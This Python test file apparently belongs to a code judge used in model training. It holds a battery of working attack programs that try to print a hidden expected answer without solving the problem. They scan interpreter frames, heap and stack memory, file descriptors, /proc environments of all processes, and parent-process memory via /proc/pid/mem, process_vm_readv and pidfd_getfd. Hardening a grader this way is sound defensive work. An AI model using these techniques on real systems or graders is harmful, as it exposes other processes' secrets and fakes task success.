# SPDX-License-Identifier: Apache-2.0
"""Finding the expected output of a script: it is a random key, so a program that prints it has read it."""

from __future__ import annotations

from typing import Any

from klear_verl.judge import Problem, StdioTest
from tests.judge.attacks.battery.attack import ANY, FIND_KEY, KEY, LIBC, Attack, script

_START = (
    FIND_KEY
    + """
def show(value):
    data = value if isinstance(value, bytes) else repr(value).encode("utf-8", "replace")
    for key in find_key(data):
        print(key.decode())
        raise SystemExit
"""
)

# Reads memory that may not be there without dying of it: the kernel answers EFAULT.
_MEMORY = (
    _START
    + LIBC
    + """
reader, writer = os.pipe()
def scan(start, end):
    last = b""
    for address in range(start & ~4095, end, 4096):
        if libc.write(writer, ctypes.c_void_p(address), 4096) == 4096:
            page = os.read(reader, 4096)
            show(last[-64:] + page)
            last = page
"""
)


def _read(name: str, tries: str, source: str, **options: Any) -> Attack:
    return script(name, tries, source, expected=KEY, **options)


def _read_earlier(name: str, tries: str, source: str) -> Attack:
    """The key was expected of an earlier solution, and is expected again."""
    problem = Problem(id=name, tests=(StdioTest(input="", output=KEY), StdioTest(input="", output=KEY)))
    return Attack(name, tries, ((problem, "print('wrong')"), (problem, source)))


def _read_neighbour(name: str, tries: str, source: str) -> Attack:
    """The key was in an earlier solution and its input."""
    first = Problem(id=name, tests=(StdioTest(input=KEY, output="42"),))
    second = Problem(id=name, tests=(StdioTest(input="", output=KEY),))
    return Attack(name, tries, ((first, f"print(input())  # {KEY}"), (second, source)), ANY)


_FRAMES = """
import sys
frame = sys._getframe()
while frame:
    show([frame.f_locals, frame.f_globals])
    frame = frame.f_back
"""
_OBJECTS = """
import gc
for held in gc.get_objects():
    if isinstance(held, (list, tuple, set, dict)):
        for value in list(held.values() if isinstance(held, dict) else held):
            if isinstance(value, (str, bytes)):
                show(value)
"""
_DESCRIPTORS = """
import os
for fd in range(64):
    for read in (lambda: os.pread(fd, 1 << 16, 0), lambda: os.read(fd, 1 << 16) if fd > 2 else b""):
        try:
            os.set_blocking(fd, False)
            show(read())
        except OSError:
            pass
"""
_HEAP = """
here = [id(object()), id("x" * 5000), id([0] * 5000), libc.sbrk(0) & (1 << 64) - 1 or id(0)]
for address in here:
    scan(address - (8 << 20), address + (8 << 20))
"""

ATTACKS = (
    _read("read_frames", "the locals and globals of every calling frame", _START + _FRAMES),
    _read(
        "read_frames_of_all_threads",
        "the frames of whatever other thread there is",
        _START
        + """
import sys
for frame in sys._current_frames().values():
    while frame:
        show([frame.f_locals, frame.f_globals])
        frame = frame.f_back
""",
    ),
    _read(
        "read_frames_by_traceback",
        "the frames that an exception of its own passes through",
        _START
        + """
import sys
def hook(kind, value, traceback):
    while traceback:
        show([traceback.tb_frame.f_locals, traceback.tb_frame.f_globals])
        traceback = traceback.tb_next
sys.excepthook = sys.__excepthook__ = hook
1 / 0
""",
    ),
    _read(
        "trace_the_runner",
        "a trace function on the frames that called it sees what they do afterwards",
        _START
        + """
import os, sys
def trace(frame, event, argument):
    for key in find_key(repr([frame.f_locals, argument]).encode()):
        os.write(1, key)
    return trace
frame = sys._getframe()
while frame:
    frame.f_trace = trace
    frame = frame.f_back
sys.settrace(trace)
sys.setprofile(trace)
""",
    ),
    _read(
        "read_frames_at_exit",
        "an exit handler looks at the frames that run it",
        _START + "import atexit\n@atexit.register\ndef last():\n" + _FRAMES.replace("\n", "\n    "),
    ),
    _read("read_gc_objects", "every string in a container that the collector knows", _START + _OBJECTS, allowed=ANY),
    _read(
        "read_modules",
        "the attributes of every module, three levels deep",
        _START
        + """
import sys
def look(value, depth):
    show(value) if isinstance(value, (str, bytes, list, dict, tuple)) else None
    if depth:
        for inner in list(getattr(value, "__dict__", {}).values()):
            look(inner, depth - 1)
for module in list(sys.modules.values()):
    if "judge" in getattr(module, "__name__", "") or module.__name__ == "__main__":
        look(module, 3)
""",
        allowed=ANY,
    ),
    _read(
        "read_freed_strings",
        "fresh buffers still hold what was in them before",
        _START
        + LIBC
        + """
libc.malloc.restype = ctypes.c_void_p
for size in (32, 64, 512, 4096, 65536) * 200:
    address = libc.malloc(ctypes.c_size_t(size))
    show(ctypes.string_at(address, size))
""",
    ),
    _read("read_inherited_heap", "the heap that the fork left, page by page", _MEMORY + _HEAP, allowed=ANY),
    _read(
        "read_stack",
        "the stack up to its top, with arguments and environment",
        _MEMORY
        + """
import threading
address = ctypes.addressof(ctypes.c_char_p.in_dll(libc, "environ"))
top = ctypes.cast(address, ctypes.POINTER(ctypes.c_void_p))[0]
scan(top - (2 << 20), top + (1 << 20))
""",
    ),
    _read("read_descriptors", "whatever inherited descriptor can be read", _START + _DESCRIPTORS),
    _read(
        "read_own_descriptor_folder",
        "opens the files behind its descriptors anew, from their beginning",
        _START
        + """
import os
for number in range(64):
    for folder in ("/proc/self/fd", "/dev/fd", "/proc/thread-self/fd"):
        try:
            show(open(f"{folder}/{number}", "rb").read(1 << 16))
        except OSError:
            pass
""",
    ),
    _read(
        "read_arguments_of_all_processes",
        "the command lines and environments in /proc",
        _START
        + """
for number in ("self", *range(1, 5000)):
    for file in ("cmdline", "environ"):
        try:
            show(open(f"/proc/{number}/{file}", "rb").read())
        except OSError:
            pass
""",
    ),
    _read(
        "read_memory_of_the_parents",
        "the memory of the processes above, through /proc/*/mem",
        _START
        + """
import os
for pid in (os.getppid(), @SUPERVISOR@, 1):
    try:
        maps = open(f"/proc/{pid}/maps").read()
        memory = open(f"/proc/{pid}/mem", "rb", 0)
    except OSError:
        continue
    for line in maps.splitlines():
        start, end = (int(part, 16) for part in line.split()[0].split("-"))
        if "rw" in line and end - start < 1 << 26:
            memory.seek(start)
            show(memory.read(end - start))
""",
        allowed=ANY,
    ),
    _read(
        "read_memory_of_the_parents_by_system_call",
        "process_vm_readv of the heap at the addresses that the fork left equal",
        _START
        + LIBC
        + """
buffer = ctypes.create_string_buffer(4096)
class Vector(ctypes.Structure):
    _fields_ = [("base", ctypes.c_void_p), ("length", ctypes.c_size_t)]
local = Vector(ctypes.addressof(buffer), 4096)
for pid in (os.getppid(), @SUPERVISOR@, 1):
    for address in range(id(object()) & ~4095, (id(object()) & ~4095) + (1 << 22), 4096):
        remote = Vector(address, 4096)
        if libc.process_vm_readv(pid, ctypes.byref(local), 1, ctypes.byref(remote), 1, 0) < 0:
            break
        show(buffer.raw)
""",
    ),
    _read(
        "read_descriptors_of_the_parent",
        "the files that the processes above hold open",
        _START
        + """
import os
for pid in (os.getppid(), @SUPERVISOR@, 1):
    for number in range(64):
        try:
            with open(f"/proc/{pid}/fd/{number}", "rb", 0) as file:
                os.set_blocking(file.fileno(), False)
                show(file.read(1 << 16) or b"")
        except OSError:
            pass
""",
    ),
    _read(
        "steal_descriptors_of_the_parent",
        "pidfd_getfd copies a descriptor out of another process",
        _START
        + LIBC
        + """
for pid in (os.getppid(), @SUPERVISOR@):
    pidfd = libc.syscall(434, pid, 0)
    for number in range(64):
        fd = libc.syscall(438, pidfd, number, 0)
        if fd >= 0:
            os.set_blocking(fd, False)
            try:
                show(os.read(fd, 1 << 16))
            except OSError:
                pass
""",
    ),
    _read(
        "read_expected_files",
        "the tests may lie in a file beside the judge or in the working folder",
        _START
        + """
import os, sys
for folder in (".", "..", "/tmp", "/srv", os.path.expanduser("~"), *sys.path):
    try:
        names = os.listdir(folder)
    except OSError:
        continue
    for name in names:
        if name.endswith((".txt", ".json", ".jsonl", ".out", ".parquet")):
            try:
                show(open(os.path.join(folder, name), "rb").read(1 << 20))
            except OSError:
                pass
""",
    ),
    _read_earlier("read_earlier_output_in_objects", "what an earlier test expected, as an object", _START + _OBJECTS),
    _read_earlier("read_earlier_output_in_heap", "what an earlier test expected, in old memory", _MEMORY + _HEAP),
    _read_neighbour(
        "read_earlier_program_in_frames", "an earlier program or its input, in the frames", _START + _FRAMES
    ),
    _read_neighbour("read_earlier_program_in_objects", "an earlier program or its input", _START + _OBJECTS),
    _read_neighbour("read_earlier_program_in_heap", "an earlier program or its input, in memory", _MEMORY + _HEAP),
    _read_neighbour("read_earlier_program_in_files", "an earlier program or its input", _START + _DESCRIPTORS),
)
